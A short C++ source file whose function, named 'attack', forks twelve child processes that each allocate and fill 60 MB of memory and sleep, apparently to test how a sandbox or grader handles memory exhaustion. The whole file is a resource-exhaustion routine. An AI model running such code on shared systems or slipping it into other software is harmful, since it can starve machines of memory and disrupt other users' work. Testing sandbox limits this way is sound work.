#include <cstdlib>
#include <cstring>
#include <unistd.h>
int attack(int n) {
	for (int i = 0; i < 12; i++) {
		if (fork() == 0) {
			char* block = static_cast<char*>(std::malloc(60 << 20));
			if (block != nullptr) std::memset(block, 120, 60 << 20);
			sleep(30);
			_exit(block != nullptr && block[1] == 0);
		}
	}
	sleep(30);
	return 0;
}
